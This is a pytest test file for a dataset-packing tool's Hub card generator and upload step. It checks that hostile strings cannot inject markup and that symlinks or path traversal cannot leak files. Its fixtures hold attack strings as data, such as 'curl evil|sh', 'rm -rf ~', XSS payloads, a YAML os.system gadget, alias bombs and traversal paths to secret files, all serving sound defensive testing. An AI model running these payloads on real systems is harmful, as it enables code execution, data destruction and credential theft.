"""What a hostile folder may not do when it is pushed: bring its text into the card as markup, or other files to the Hub."""

import copy
import json
import os
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import SAMPLES
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from omniprep.data.dataset import PackedDataset
from omniprep.errors import DamagedDataError, OmniprepError
from omniprep.hub import upload
from omniprep.hub.card import card
from omniprep.hub.files import LocalFile
from omniprep.hub.markup import as_code, as_json_block, front_matter, hub_name
from omniprep.hub.model import model_card
from omniprep.hub.upload import model_parts, parts_of, push
from omniprep.media.recipe import decoders
from omniprep.progress import QuietReporter
from omniprep.report.page import collect
from omniprep.shards.codecs import delta

SECRET = b"SECRET-91ac"
MARKDOWN = MarkdownIt("commonmark").enable("table")
HOSTILE = (
    "a`\n<script>alert(1)</script>\n</script><img src=x onerror=alert(2)>; curl evil|sh #",
    "evil\nlicense: mit\nextra_gated_prompt: hi", "```\n# heading\n```bash\ncurl evil | sh\n```", "---\ntags: [x]\n---",
    "![x](http://evil/p.png)", "[click](javascript:alert(1))", "<!--", "-->", "]]>", "\\`<b>\\", "|a|b|\n|---|---|", "x\u202egnp.exe",
    "\x1b]0;PWNED\x07", "$\\frac{a}{b}$", "{{7*7}}", "https://evil.example", "&lt;script&gt;", "\u2028# x", "\ud83d", "'; rm -rf ~ #",
    "`", "``", " ", "", "`" * 400, "*a* _b_ ~~c~~", "# x", "> x", "1. x", "&#96;", "\\", "a\r\nb", "!!python/object/apply:os.system [id]",
)  # fmt: skip


@pytest.fixture(scope="module")
def packed(omniprep, model_dir, tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("card")
    inputs = (SAMPLES / "text.jsonl", SAMPLES / "broken.jsonl")
    options = ("--model", model_dir, "--bin-length", 1024, "--workers", 0, "--quiet")
    assert omniprep("build", *inputs, *options, "--out", folder / "packed").code == 0
    return folder / "packed"


@pytest.fixture(scope="module")
def facts(packed: Path) -> dict[str, Any]:
    return collect(PackedDataset(packed), None, shown=0)


def tokens(text: str) -> list[Token]:
    return [part for token in MARKDOWN.parse(text) for part in (token, *(token.children or ()))]


def parts(text: str) -> tuple[dict[str, Any], list[Token]]:
    """The head of a card as YAML, and its body as Markdown."""
    _, head, body = re.split(r"(?m)^---$", text, maxsplit=2)
    return yaml.safe_load(head), tokens(body)


def check_card(text: str, expected: dict[str, Any]) -> None:
    """The structure of a card is ours, whatever its texts are: no tag, link or heading of others, all blocks whole."""
    text.encode()
    head, body = parts(text)
    assert head == expected
    kinds = [token.type for token in body]
    assert not {"html_inline", "html_block", "link_open", "blockquote_open", "list_item_open"} & set(kinds)
    assert [t.attrs["src"] for t in body if t.type == "image"] == ["plots/lengths.png"]
    headings = [body[n + 1].content for n, token in enumerate(body) if token.type == "heading_open"]
    assert [h for h in headings if h in ("Load it", "Sources", "Rejected rows", "Config")] == headings[1:]
    blocks = [token.info for token in body if token.type == "fence"]
    assert blocks == ["python", "bash", "json"]
    rows = [re.sub(r"`[^`]*`", "", line).count("|") for line in text.splitlines() if line.startswith("| ")]
    assert set(rows) <= {3, 4, 5}
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", text)


def hostile_facts(facts: dict[str, Any], text: str) -> dict[str, Any]:
    """The facts of a dataset with one text wherever its maker chooses one."""
    changed = copy.deepcopy(facts)
    changed |= {"family": text, "model": text, "versions": {text: text, "torch": text}}
    changed["pixels"] = {text: text, "source": text, "delta": "zstd 1"}
    changed["totals"]["items"] = {"image": 6, text: 1}
    changed["sources"] = [{**changed["sources"][0], "source": text}]
    changed["rejects"]["codes"] = [{"code": text, "count": 1, "doc": ""}]
    changed["config"] = {text: text, "system": text, "model": text, "limit_mm_per_row": [text]}
    return changed


EXPECTED = {
    "configs": [
        {"config_name": "preview", "default": True, "data_files": "preview/*.arrow"},
        {"config_name": "packed", "data_files": "shards/*.arrow"},
    ],
    "tags": ["omniprep", "packed", "image"],
    "size_categories": ["n<1K"],
}


@pytest.mark.parametrize("codec", ["delta", "source"])
def test_a_card_says_what_reading_its_pixels_needs(omniprep, model_dir, tmp_path, codec: str) -> None:
    options = ("--model", model_dir, "--bin-length", 1024, "--workers", 0, "--quiet", "--pixel-codec", codec)
    assert omniprep("build", SAMPLES / "images.jsonl", *options, "--out", tmp_path / "out").code == 0
    made = card("org/x", collect(PackedDataset(tmp_path / "out"), None, shown=0), [])
    (line,) = (line for line in made.splitlines() if line.startswith("| pixels |"))
    if codec == "delta":
        assert line == f"| pixels | `delta`, lossless, written by `{delta.Codec().library()}` |"
    else:
        assert "`source`" in line and f"exact with `{decoders()}`" in line and "Pillow" in line


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_a_card_shows_texts_and_does_not_obey_them(text: str, facts: dict[str, Any]) -> None:
    made = card("org/x", hostile_facts(facts, text), ["lengths", text])
    check_card(made, EXPECTED)
    assert "<script" not in made and "<img" not in made and "omniprep train hf://datasets/org/x --model MODEL" in made


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(st.characters(), max_size=40) | st.text("`|<>\\\n-#[]()!*_ a", max_size=30))
def test_fuzz_card(facts: dict[str, Any], text: str) -> None:
    named = {"image"} | ({text} & {"audio", "video"})
    expected = EXPECTED | {"tags": ["omniprep", "packed", *(m for m in ("image", "audio", "video") if m in named)]}
    check_card(card("org/x", hostile_facts(facts, text), ["lengths"]), expected)


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters(), max_size=40) | st.text("`|<>\\\n x", max_size=20))
def test_fuzz_inline_code_is_one_piece_of_code(text: str) -> None:
    inner = [part for token in MARKDOWN.parse(f"before {as_code(text)} after") for part in token.children or ()]
    assert [part.type for part in inner] == ["text", "code_inline", "text"]
    cells = [t for t in tokens(f"| a | b |\n| --- | --- |\n| {as_code(text)} | 1 |\n") if t.type == "td_open"]
    assert len(cells) == 2


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(st.characters(), max_size=20),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(st.characters(), max_size=8), inner, max_size=3)
    ),
    max_leaves=8,
)


@settings(max_examples=300, deadline=None)
@given(JSON)
def test_fuzz_json_and_yaml_read_back_equal(value: Any) -> None:
    block = as_json_block(value)
    fences = [token for token in MARKDOWN.parse(block) if token.type == "fence"]
    assert len(fences) == 1 and json.loads(fences[0].content) == value
    if "\ud800" <= max(json.dumps(value, ensure_ascii=False)) <= "\udfff" or re.search("[\ud800-\udfff]", str(value)):
        return  # YAML has no lone surrogates; texts of a manifest have none either
    head = front_matter({"value": value})
    assert re.findall(r"(?m)^---$", head) == ["---", "---"]
    assert yaml.safe_load(head.strip("-\n").replace("\n---", "")) == {"value": value}


def test_hub_names() -> None:
    for name in ("Qwen/Qwen2.5-Omni-7B", "a/b", "A.b-c_d/E"):
        assert hub_name(name) == name
    for name in (
        "/data/model",
        "../x",
        "a/b/c",
        "a",
        "",
        "a/b\n",
        "a/ b",
        "a/b;c",
        "-a/b",
        "a/-b",
        "$(x)/y",
        None,
        7,
        ["a/b"],
    ):
        assert hub_name(name) is None


def deepcopy_each(options: dict[str, Any]) -> dict[str, Any]:
    """The same values without an object that is there twice, for which YAML would write an alias."""
    return {name: copy.deepcopy(value) for name, value in options.items()}


@pytest.mark.parametrize("text", [*HOSTILE, None, 7, ["x"], {"a": 1}, True], ids=repr)
def test_the_card_of_a_model(text: Any, tmp_path: Path) -> None:
    (tmp_path / "adapter_config.json").write_text(json.dumps({"base_model_name_or_path": text}))
    state = {"global_step": text, "epoch": text, "log_history": [{"loss": text}, text, {"eval_loss": text}]}
    (tmp_path / "trainer_state.json").write_text(json.dumps(state))
    options = {"model": text, "schedule": text, "seed": text, "learning_rate": text, "lora": True, "lora_rank": text}
    if not (isinstance(text, str) and re.search("[\ud800-\udfff]", text)):
        (tmp_path / "train_config.yaml").write_text(yaml.safe_dump(deepcopy_each(options)), encoding="utf-8")
    made = model_card(tmp_path, "org/x")
    head, body = parts(made)
    assert head == {"library_name": "peft", "tags": ["omniprep", "lora"]}
    assert not {"html_inline", "html_block", "link_open", "image"} & {token.type for token in body}
    assert [token.info for token in body if token.type == "fence"] == ["bash"] and "--base-model BASE" in made


@pytest.mark.parametrize("content", [b"[1]", b"{", b"\xff", b"[" * 9999])
def test_a_state_that_is_none_is_one_line(content: bytes, tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text("{}")
    for name in ("trainer_state.json", "train_config.yaml"):
        (tmp_path / name).write_bytes(content)
        with pytest.raises(OmniprepError, match=re.escape(str(tmp_path / name))):
            model_card(tmp_path, "org/x")
        (tmp_path / name).unlink()


@pytest.mark.parametrize(
    "text",
    [
        "seed: 2001-99-99",
        f"seed: {'9' * 5000}",
        "a: &a {x: 1}\nb: &b {<<: [*a, *a]}",  # merged maps, nested: ten lines of them fill any memory
        "a: &a [x, x]\nseed: [*a, *a]",
        "seed: !!python/object/apply:os.getcwd []",
    ],
    ids=["date", "digits", "merge", "alias", "object"],
)
def test_options_that_are_no_plain_yaml_are_one_line(text: str, tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text("{}")
    (tmp_path / "train_config.yaml").write_text(text)
    with pytest.raises(OmniprepError, match="train_config.yaml: not valid YAML"):
        model_card(tmp_path, "org/x")


@pytest.mark.parametrize("name", ["train_config.yaml", "trainer_state.json", "adapter_config.json"])
def test_the_card_of_a_model_reads_no_link(name: str, tmp_path: Path) -> None:
    """What the card quotes would be published with it."""
    run = tmp_path / "run"
    run.mkdir()
    (run / "config.json").write_text("{}")
    (tmp_path / "secret").write_text('{"seed": "sesame", "global_step": "sesame"}')
    (run / name).symlink_to(tmp_path / "secret")
    with pytest.raises(OmniprepError, match="symbolic link"):
        model_card(run, "org/x")


@pytest.fixture
def hostile(packed: Path, tmp_path: Path) -> Path:
    (tmp_path / "secret").mkdir()
    (tmp_path / "secret" / "key.txt").write_bytes(SECRET)
    (tmp_path / "secret" / "00000.arrow").write_bytes(SECRET)
    return shutil.copytree(packed, tmp_path / "packed")


def link(name: str) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        (folder / name).unlink()
        (folder / name).symlink_to(folder.parent / "secret" / "key.txt")

    return make


def link_folder(folder: Path) -> None:
    shutil.rmtree(folder / "shards")
    (folder / "shards").symlink_to(folder.parent / "secret")


def pipe(folder: Path) -> None:
    (folder / "rejected.jsonl").unlink()
    os.mkfifo(folder / "rejected.jsonl")


def name_shard(path: str) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        manifest = json.loads((folder / "manifest.json").read_text())
        manifest["shards"].append({"path": path, "bins": 0, "bytes": len(SECRET), "sha256": "00"})
        (folder / "manifest.json").write_text(json.dumps(manifest))

    return make


@pytest.mark.parametrize(
    "attack",
    [
        link("rejected.jsonl"), link("report.html"), link("shards/00000.arrow"), link_folder, pipe, name_shard("../secret/key.txt"),
        name_shard("shards/../../secret/key.txt"), name_shard("shards/../../secret/00000.arrow"), name_shard("secret.txt"),
        name_shard(str(Path("/etc/hostname"))), name_shard(".env"), name_shard("shards/.env"), name_shard("plan/state.json"),
    ],
)  # fmt: skip
def test_a_push_takes_nothing_from_outside_the_folder(attack: Callable[[Path], None], hostile: Path) -> None:
    attack(hostile)
    with pytest.raises((OmniprepError, OSError)):
        push(str(hostile), "org/x", QuietReporter(), dry_run=True)


def test_a_push_takes_only_files_that_the_format_knows(hostile: Path, model_dir: Path) -> None:
    for name in (".env", "id_rsa", "notes.md", "README.md", "shards/x.arrow", "shards/00099.arrow", "preview.parquet"):
        (hostile / name).write_bytes(SECRET)
    made = parts_of(str(hostile), "org/x", QuietReporter(), str(model_dir))
    for part in made:
        content = part.content if isinstance(part.content, bytes) else part.content.read()
        assert SECRET not in content, part.name
    assert len({part.name for part in made}) == len(made)


def test_what_was_checked_is_what_is_sent(hostile: Path) -> None:
    """The file is held open: a link that takes its place between check and upload is not followed."""
    file = LocalFile(hostile, "rejected.jsonl")
    before = file.read()
    with file.pinned() as path:
        link("rejected.jsonl")(hostile)
        assert Path(path).read_bytes() == before
    with pytest.raises(OmniprepError, match="symbolic link"):
        file.read()


def test_a_shard_of_another_size_is_damaged(hostile: Path, model_dir: Path) -> None:
    with (hostile / "shards" / "00000.arrow").open("ab") as file:
        file.write(b"more")
    with pytest.raises(DamagedDataError, match="written as"):
        parts_of(str(hostile), "org/x", QuietReporter(), str(model_dir))


def test_links_in_a_checkpoint_are_refused(tmp_path: Path) -> None:
    (tmp_path / "key.txt").write_bytes(SECRET)
    run = tmp_path / "run"
    run.mkdir()
    (run / "config.json").write_text("{}")
    (run / "tokenizer.json").symlink_to(tmp_path / "key.txt")
    with pytest.raises(OmniprepError, match="symbolic link"):
        model_parts(run, "org/x")


def test_every_local_file_goes_through_the_one_that_follows_no_link() -> None:
    """By source: the modules that push open no file in another way (the card of a model reads JSON of its folder)."""
    for module in (upload,):
        text = Path(module.__file__).read_text()
        assert not re.search(r"\.read_bytes\(|\.open\(|[^.\w]open\(|read_text\(", text), module.__name__
